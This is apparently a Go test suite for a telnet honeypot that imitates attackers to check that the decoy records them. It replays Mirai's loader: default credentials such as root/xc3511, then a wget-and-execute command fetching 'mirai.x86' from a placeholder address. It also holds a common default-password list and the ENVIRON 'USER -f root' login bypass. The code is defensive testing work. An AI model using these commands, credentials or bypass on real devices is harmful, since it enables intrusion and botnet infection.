package telnet

import (
	"bytes"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"bartizan/internal/decoy"
	"bartizan/internal/observe"
)

// bot is a client that answers options as Mirai's scanner does.
type bot struct {
	net.Conn
	t   testing.TB
	p   parser
	got []byte
}

func (b *bot) option(verb, opt byte) {
	switch verb {
	case do:
		b.Write([]byte{iac, wont, opt})
	case will:
		b.Write([]byte{iac, do, opt})
	}
}
func (b *bot) sub([]byte)   {}
func (b *bot) command(byte) {}

// until reads to one of the given ends and returns what came before it.
func (b *bot) until(ends ...string) string {
	b.t.Helper()
	buf := make([]byte, 4096)
	for {
		for _, e := range ends {
			if strings.HasSuffix(strings.TrimRight(string(b.got), " "), e) {
				out := string(b.got)
				b.got = nil
				return out
			}
		}
		b.SetReadDeadline(time.Now().Add(5 * time.Second))
		n, err := b.Read(buf)
		b.got = b.p.feed(b.got, buf[:n], b)
		if err != nil {
			b.t.Fatalf("waiting for %q after %q: %v", ends, b.got, err)
		}
	}
}

func (b *bot) say(text string) { io.WriteString(b, text) }

func connect(t testing.TB, r *rig) *bot {
	t.Helper()
	c, err := net.Dial("tcp", r.addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	return &bot{Conn: c, t: t}
}

func (b *bot) login(user, password string) string {
	b.until("login:")
	b.say(user + "\r\n")
	b.until("Password:")
	b.say(password + "\r\n")
	return b.until("login:", "#", "$", ")\r")
}

// TestMiraiLoader plays the dialogue of Mirai's loader and of its many children.
func TestMiraiLoader(t *testing.T) {
	r := start(t, open())
	b := connect(t, r)
	if out := b.login("root", "xc3511"); strings.Contains(out, "xc3511") {
		t.Error("the password is echoed")
	}
	for _, line := range []string{"enable", "system", "shell", "sh"} {
		b.say(line + "\r\n")
		b.until("#", "$", ">")
	}
	b.say("/bin/busybox MIRAI\r\n")
	if out := b.until("#", "$"); !strings.Contains(out, "MIRAI: applet not found") {
		t.Errorf("busybox says %q", out)
	}
	b.say("cat /proc/mounts; /bin/busybox PBPXR\r\n")
	if out := b.until("#", "$"); !strings.Contains(out, " /proc ") || !strings.Contains(out, "PBPXR: applet not found") {
		t.Errorf("mounts are %q", out)
	}
	b.say("cd /tmp; wget http://198.51.100.7/mirai.x86 -O - > dvr; chmod 777 dvr; ./dvr telnet\r\n")
	b.until("#", "$")
	b.say("echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > /tmp/.d; cat /tmp/.d | wc -c\r\n")
	if out := b.until("#", "$"); !strings.Contains(out, "\r6\r") {
		t.Errorf("the dropper is %q", out)
	}
	b.say("# " + strings.Repeat("a short visit has no transcript beside its first bytes ", 10) + "\r\n")
	b.until("#", "$")
	b.Close()
	r.sink.wait(t, "login", func(o *observe.Observation) bool {
		return o.Auth != nil && o.Auth.Accepted && o.Auth.User == "root" && o.Auth.Password == "xc3511" && o.Auth.Method == "password"
	})
	r.sink.wait(t, "busybox", func(o *observe.Observation) bool { return o.Command != nil && o.Command.Line == "/bin/busybox MIRAI" })
	r.sink.wait(t, "fetch", func(o *observe.Observation) bool {
		return o.Fetch != nil && o.Fetch.URL == "http://198.51.100.7/mirai.x86" && o.Fetch.Tool == "wget"
	})
	f := r.sink.wait(t, "dropper", func(o *observe.Observation) bool { return o.File != nil && o.File.Path == "/tmp/.d" })
	if len(f.Evidence) != 1 || string(f.Evidence[0].Data) != "\x7fELF\x01\x01" {
		t.Errorf("dropper captured as %+v", f.Evidence)
	}
	end := r.sink.wait(t, "end", func(o *observe.Observation) bool { return o.Interaction != nil && o.Interaction.Ended })
	if len(end.Evidence) != 1 || !bytes.Contains(end.Evidence[0].Data, []byte("/bin/busybox MIRAI")) {
		t.Errorf("the transcript lacks what was typed: %+v", end.Evidence)
	}
}

// TestDrillOrder plays the list that the node's drill plays.
func TestDrillOrder(t *testing.T) {
	c := Default()
	c.FailDelay = time.Millisecond
	r := start(t, c)
	list := [][2]string{
		{"root", "123456"}, {"admin", "admin123"}, {"root", "password"}, {"ubuntu", "ubuntu1"}, {"root", "12345678"}, {"test", "test123"}, {"oracle", "oracle1"},
		{"root", "qwerty"}, {"postgres", "postgres1"}, {"root", "1q2w3e4r"}, {"root", "admin"}, {"admin", "admin"}, {"root", "root"}, {"pi", "raspberry"},
	}
	for i, g := range list {
		b := connect(t, r)
		out := b.login(g[0], g[1])
		b.Close()
		if strings.HasSuffix(strings.TrimRight(out, " "), "login:") {
			if i >= 11 {
				t.Fatalf("refused at attempt %d", i+1)
			}
			continue
		}
		if i < 5 {
			t.Errorf("let in at attempt %d", i+1)
		}
		return
	}
}

func TestTriesEnd(t *testing.T) {
	c := open()
	c.Login.Never = true
	r := start(t, c)
	b := connect(t, r)
	for i := range 5 {
		out := b.login("root", "x")
		if last := strings.Contains(out, "Maximum number of tries exceeded (5)"); last != (i == 4) {
			t.Errorf("try %d: %q", i+1, out)
		}
		b.got = []byte("login:")
	}
	if _, err := io.ReadAll(b); err != nil {
		t.Errorf("the end is no clean close: %v", err)
	}
}

// TestSilentClient: a client that knows no telnet gets its prompt anyway, and
// one that types at once is not made to wait.
func TestSilentClient(t *testing.T) {
	c := open()
	c.Negotiate = time.Hour
	r := start(t, c)
	conn, err := net.Dial("tcp", r.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	io.WriteString(conn, "root\nabc\nid -u\nexit\n")
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	out, err := io.ReadAll(conn)
	if err != nil {
		t.Fatalf("%v after %q", err, out)
	}
	if !bytes.HasPrefix(out, []byte("\xff\xfd\x18\xff\xfd \xff\xfd#\xff\xfd'")) {
		t.Errorf("starts with % x", out[:min(len(out), 12)])
	}
	if !bytes.Contains(out, []byte("\n0\r\n")) {
		t.Errorf("no answer to a command: %q", out)
	}
}

func TestEnvironLogin(t *testing.T) {
	c := open()
	c.Negotiate = time.Hour // it ends when all is answered
	r := start(t, c)
	b := connect(t, r)
	b.say("\xff\xfb\x27\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23")
	b.say("\xff\xfa\x27\x00\x00USER\x01-f root\xff\xf0")
	b.until("#")
	b.say("id\r\n")
	if out := b.until("#"); !strings.Contains(out, "uid=0(root)") {
		t.Errorf("id is %q", out)
	}
	r.sink.wait(t, "login", func(o *observe.Observation) bool {
		return o.Auth != nil && o.Auth.Accepted && o.Auth.Method == "environ" && o.Auth.User == "-f root"
	})
}

func TestOptionsDoNotLoop(t *testing.T) {
	r := start(t, open(), func(l *decoy.Limits) { l.Idle = 300 * time.Millisecond })
	conn, err := net.Dial("tcp", r.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	// Every option agreed to twice, none of which may cause more than one answer.
	for range 2 {
		for o := range 255 {
			conn.Write([]byte{iac, do, byte(o), iac, wont, byte(o)})
		}
	}
	conn.Write([]byte{iac, ayt})
	out, _ := io.ReadAll(conn) // ends with the idle limit
	if n := bytes.Count(out, []byte{iac}); n > 2*255+20 {
		t.Errorf("%d answers to 1020 messages", n)
	}
	if !bytes.Contains(out, []byte(" : yes]")) {
		t.Error("are-you-there is not answered")
	}
}

func TestWindowSizeAndTerminal(t *testing.T) {
	r := start(t, open())
	b := connect(t, r)
	b.say("\xff\xfb\x18\xff\xfb\x1f\xff\xfa\x18\x00XTERM-256color\xff\xf0\xff\xfa\x1f\x00\x60\x00\x18\xff\xf0")
	b.say("\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27")
	b.login("root", "x")
	b.say("echo $TERM\r\n")
	if out := b.until("#"); !strings.Contains(out, "\rxterm-256color\r") {
		t.Errorf("TERM is %q", out)
	}
	b.Close()
	r.sink.wait(t, "client", func(o *observe.Observation) bool {
		return o.Interaction != nil && o.Interaction.Client == "telnet xterm-256color"
	})
}

func TestParser(t *testing.T) {
	cases := []struct{ in, out string }{
		{"abc", "abc"},
		{"a\r\nb\r\x00c\rd\n", "a\rb\rc\rd\n"},
		{"a\xff\xffb", "a\xffb"},
		{"a\xff\xfb\x01b", "ab"},
		{"\xff\xfa\x18\x00vt\xff\xff100\xff\xf0x", "x"},
		{"\xff\xf4\xff\xf7\xff\xf8\xff\xec", "\x03\x7f\x15\x04"},
		{"\xff\xfa\x18abc\xff\xfb\x03z", "z"},
		{"\xff", ""},
	}
	for _, c := range cases {
		var whole, split parser
		got := whole.feed(nil, []byte(c.in), nothing{})
		if string(got) != c.out {
			t.Errorf("%q gives %q, want %q", c.in, got, c.out)
		}
		var one []byte
		for i := range len(c.in) {
			one = split.feed(one, []byte{c.in[i]}, nothing{})
		}
		if string(one) != c.out {
			t.Errorf("%q byte by byte gives %q, want %q", c.in, one, c.out)
		}
	}
}

type nothing struct{}

func (nothing) option(byte, byte) {}
func (nothing) sub([]byte)        {}
func (nothing) command(byte)      {}

// FuzzParser: however the stream is cut, the data is the same, never more than
// what came in, and nothing that is kept grows.
func FuzzParser(f *testing.F) {
	for _, s := range []string{"root\r\n", "\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0", "\xff\xfa\x27\x00\x00USER\x01-f root\xff\xf0", "\xff\xff\r\x00\xff", "\xff\xfa" + strings.Repeat("x", 2000)} {
		f.Add([]byte(s), uint8(3))
	}
	f.Fuzz(func(t *testing.T, in []byte, cut uint8) {
		var whole, split parser
		a := whole.feed(nil, in, nothing{})
		var b []byte
		step := int(cut)%7 + 1
		for i := 0; i < len(in); i += step {
			b = split.feed(b, in[i:min(i+step, len(in))], nothing{})
		}
		if !bytes.Equal(a, b) {
			t.Fatalf("%q and %q of %q", a, b, in)
		}
		if len(a) > len(in) || len(whole.buf) > maxSub {
			t.Fatal("grows")
		}
		if u := envUser(in); len(u) > len(in) {
			t.Fatal("user grows")
		}
	})
}
